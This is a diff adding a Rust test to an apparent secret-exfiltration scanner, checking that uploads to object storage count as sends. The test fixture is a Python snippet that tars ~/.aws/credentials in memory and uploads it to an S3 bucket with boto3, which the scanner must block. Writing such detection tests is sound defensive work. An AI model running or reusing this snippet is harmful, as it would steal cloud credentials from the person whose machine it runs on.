@@ -224,3 +224,23 @@ fn a_password_dialogs_answer_picked_through_a_table_and_posted_is_a_secret_sent(
     let a = run(&question);
     assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
 }
+
+/// An object storage upload (`put_object(Body=..)`, `upload_fileobj`) is
+/// a send: cloud credentials tarred in memory and put into a bucket are
+/// secrets sent (fa425f5: HIGH); the app's own logs put there are not.
+#[test]
+fn secrets_put_into_a_bucket_are_sent() {
+    let backup = "import glob, io, os, tarfile, boto3\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as t:\n    for p in glob.glob(os.path.expanduser('~/.aws/credentials')):\n        t.add(p)\nboto3.client('s3').put_object(Bucket='b', Key='k', Body=buf.getvalue())\n";
+    let a = run(backup);
+    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let fileobj = backup.replace(
+        "put_object(Bucket='b', Key='k', Body=buf.getvalue())",
+        "upload_fileobj(buf, 'b', 'k')",
+    );
+    assert!(rules(&run(&fileobj)).contains(&"MB916"));
+    let logs = backup.replace("'~/.aws/credentials'", "'~/.local/state/myapp/*.log'");
+    let a = run(&logs);
+    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High);
+}
